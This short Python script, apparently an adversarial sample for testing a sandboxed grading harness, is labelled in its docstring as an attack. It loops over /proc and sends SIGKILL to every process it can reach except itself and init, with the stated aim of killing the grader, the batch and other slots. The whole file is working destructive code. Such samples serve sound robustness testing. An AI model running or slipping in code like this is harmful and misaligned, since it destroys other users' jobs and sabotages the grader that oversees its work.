"""Attack: SIGKILL every process it can see (the grader, the batch, the other slots)."""

import os
import signal

for pid in os.listdir("/proc"):
    if pid.isdigit() and int(pid) not in (os.getpid(), 1):
        try:
            os.kill(int(pid), signal.SIGKILL)
        except OSError:
            pass
